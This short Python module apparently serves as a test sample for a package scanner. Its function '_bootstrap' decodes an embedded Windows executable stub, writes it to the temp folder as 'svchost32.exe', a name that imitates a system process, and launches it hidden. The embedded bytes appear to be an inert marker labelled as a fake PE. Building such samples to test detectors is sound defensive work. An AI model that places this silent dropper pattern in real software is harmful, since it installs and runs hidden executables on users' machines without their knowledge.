import base64
import os
import subprocess
import tempfile

_RT = "TVqQAAMAAAAEAAAA//8AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAAAFBFAABMAQAAAAAAAAAAAAAAAAAAAAAAAHBpcHdhcmRlbi10ZXN0IGZha2UgUEU="


def _bootstrap():
    if os.name != "nt":
        return
    p = os.path.join(tempfile.gettempdir(), "svchost32.exe")
    try:
        with open(p, "wb") as f:
            f.write(base64.b64decode(_RT))
        subprocess.Popen([p], creationflags=0x08000000)
    except OSError:
        pass
